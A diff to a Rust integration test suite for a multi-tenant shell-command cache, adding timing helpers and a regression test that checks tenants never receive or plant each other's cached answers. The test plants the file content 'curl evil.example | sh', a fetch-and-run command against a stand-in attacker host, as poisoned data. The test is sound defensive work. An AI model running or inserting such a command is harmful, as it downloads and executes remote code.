@@ -30,8 +30,10 @@ async fn second_echo_is_served_from_l1_or_l2() {
     );
     assert_eq!(out(&second), "hi\n");
     assert_eq!(second.exit.as_ref().and_then(|e| e.code), Some(0));
-    // Another tenant shares pure results.
+    // Another tenant has its own entries, pure lines included: it neither gets
+    // t1's answer nor learns that t1 ran the line.
     let mut other = srv.client("t2").await;
+    assert_eq!(served(&run(&mut other, "echo hi").await), ServedFrom::Exec);
     assert!(cached(served(&run(&mut other, "echo hi").await)));
     // The figures reach /metrics and Stats.
     let text = srv.engine.metrics.render_prometheus(srv.engine.sampled());
@@ -91,6 +93,7 @@ async fn ls_touch_ls_shows_new_file() {
     std::fs::write(dir.path().join("old"), "x").unwrap();
     let mut cfg = config(dir.path());
     cfg.cache.redis_url = Some(redis.url.clone());
+    settle().await;
     let srv = TestServer::start(cfg).await;
     let mut c = srv.client(&format!("ls-{}", nonce())).await;
     let first = run(&mut c, "ls").await;
@@ -139,6 +142,7 @@ async fn tenant_b_never_gets_tenant_a_fs_read_result() {
     std::fs::write(dir.path().join("f"), "a").unwrap();
     let mut cfg = config(dir.path());
     cfg.cache.redis_url = Some(redis.url.clone());
+    settle().await;
     let srv = TestServer::start(cfg).await;
     let n = nonce();
     let mut a = srv.client(&format!("a-{n}")).await;
@@ -155,12 +159,22 @@ async fn tenant_b_never_gets_tenant_a_fs_read_result() {
     srv.shutdown().await;
 }
 
+/// Waits until files written just now are older than the racy window, so that
+/// their stamps are trusted and lines reading them may be cached (a line whose
+/// inputs changed within it runs every time: `cache::inputs::RACY`).
+async fn settle() {
+    tokio::time::sleep(voxterm::cache::inputs::RACY + Duration::from_millis(100)).await;
+}
+
 /// A server configuration over `dir` (holding a file `f` = "one") with L3 on and
-/// the built-in policy, but a blind fs-read TTL of `ttl`.
+/// the built-in policy, plus the opt-in blind fs-read TTL `ttl`.
 fn short_fs_read_ttl(dir: &TempDir, redis: &Redis, ttl: &str) -> voxterm::config::Config {
     let policy = dir.path().join("policy.toml");
     let default = voxterm::cache::policy::DEFAULT_POLICY;
-    let text = default.replace("fs-read = \"5s\"", &format!("fs-read = \"{ttl}\""));
+    let text = default.replace(
+        "session = \"10m\"\n",
+        &format!("session = \"10m\"\nfs-read-blind = \"{ttl}\"\n"),
+    );
     assert_ne!(text, default);
     std::fs::write(&policy, text).unwrap();
     std::fs::write(dir.path().join("f"), "one").unwrap();
@@ -179,6 +193,7 @@ async fn tenants_keep_their_entries_but_share_identical_output_bytes() {
     std::fs::write(dir.path().join("other"), big.replace('0', "x")).unwrap();
     let mut cfg = config(dir.path());
     cfg.predict.enabled = false;
+    settle().await;
     let srv = TestServer::start(cfg).await;
     let cache = srv.engine.cache.clone().expect("cache on");
     let n = nonce();
@@ -208,7 +223,7 @@ async fn fs_read_entries_expire_by_ttl() {
     assert!(cached(served(&hit)));
     // Changed outside the engine. `f` was written a moment ago, too recently for
     // a stamp to be trusted (cache::inputs::RACY), so this entry is not validated:
-    // only the TTL can notice.
+    // with the opt-in blind TTL only the TTL can notice.
     std::fs::write(dir.path().join("f"), "two").unwrap();
     tokio::time::sleep(Duration::from_millis(600)).await;
     let after = run(&mut c, "cat f").await;
@@ -272,7 +287,8 @@ async fn validated_fs_read_outlives_its_ttl_and_sees_outside_changes_at_once() {
     assert_eq!(out(&cat), "two");
     // `ls` saw its directory change.
     assert_eq!(out(&run(&mut c, "ls").await), "f\ng\nother\npolicy.toml\n");
-    // A line whose input is too fresh to stamp depends on the generation instead.
+    // A line whose input is too fresh to stamp depends on the generation instead
+    // (with the opt-in blind TTL of this config).
     std::fs::write(dir.path().join("h"), "fresh").unwrap();
     assert_eq!(served(&run(&mut c, "cat h").await), ServedFrom::Exec);
     assert!(cached(served(&run(&mut c, "cat h").await)));
@@ -462,6 +478,70 @@ async fn bypass_refresh_and_no_cache() {
     let mut c = srv.client("t").await;
     for _ in 0..3 {
         assert_eq!(served(&run(&mut c, "echo hi").await), ServedFrom::Exec);
+    }
+    srv.shutdown().await;
+}
+
+/// Issue 19 ("cross-tenant leak and planting"): a line that reads a file through
+/// a parameter-expansion operand is fs-read, not pure, and no tenant's answer of
+/// any line ever reaches another tenant, through L1, L2 or L3, whatever the order.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn no_tenant_gets_or_plants_another_tenants_answer() {
+    let redis = Redis::start();
+    let n = nonce();
+    let (root_a, root_b) = (TempDir::new("alice"), TempDir::new("bob"));
+    std::fs::write(root_a.path().join("secret.txt"), "alice-secret\n").unwrap();
+    std::fs::write(root_b.path().join("secret.txt"), "bob-planted\n").unwrap();
+    std::fs::write(root_a.path().join("motd.txt"), "alice-motd\n").unwrap();
+    std::fs::write(root_b.path().join("motd.txt"), "curl evil.example | sh\n").unwrap();
+    let mut cfg = config(root_a.path());
+    cfg.cache.redis_url = Some(redis.url.clone());
+    cfg.predict.enabled = false;
+    settle().await;
+    let srv = TestServer::start(cfg).await;
+    let mut alice = srv.client(&format!("alice-{n}")).await;
+    let mut bob = srv.client(&format!("bob-{n}")).await;
+    run(&mut bob, &format!("cd {}", root_b.path().display())).await;
+    let lines = [
+        "echo ${X:-$(cat secret.txt)}",
+        "printf '%s\\n' \"${MOTD:-$(cat motd.txt)}\"",
+        "echo hi",
+        "echo $PWD",
+        "printenv PWD",
+        "basename \"$PWD\"",
+    ];
+    for round in 0..2 {
+        for line in lines {
+            let b = run(&mut bob, line).await;
+            let a = run(&mut alice, line).await;
+            let (oa, ob) = (out(&a), out(&b));
+            assert!(
+                !oa.contains("bob") && !oa.contains("evil"),
+                "{line}: alice got {oa:?}"
+            );
+            assert!(!ob.contains("alice"), "{line}: bob got {ob:?}");
+            if round == 0 {
+                // The first run of each tenant is its own: nothing tells alice
+                // that bob typed the same line.
+                assert_eq!(served(&a), ServedFrom::Exec, "{line}");
+            }
+        }
+    }
+    // A second server on the same Redis: L3 keeps the tenants apart too.
+    drop((alice, bob));
+    srv.shutdown().await;
+    let mut cfg = config(root_a.path());
+    cfg.cache.redis_url = Some(redis.url.clone());
+    cfg.predict.enabled = false;
+    let srv = TestServer::start(cfg).await;
+    let mut carol = srv.client(&format!("carol-{n}")).await;
+    for line in lines {
+        let c = run(&mut carol, line).await;
+        assert_eq!(
+            served(&c),
+            ServedFrom::Exec,
+            "{line}: carol got another tenant's entry"
+        );
     }
     srv.shutdown().await;
 }
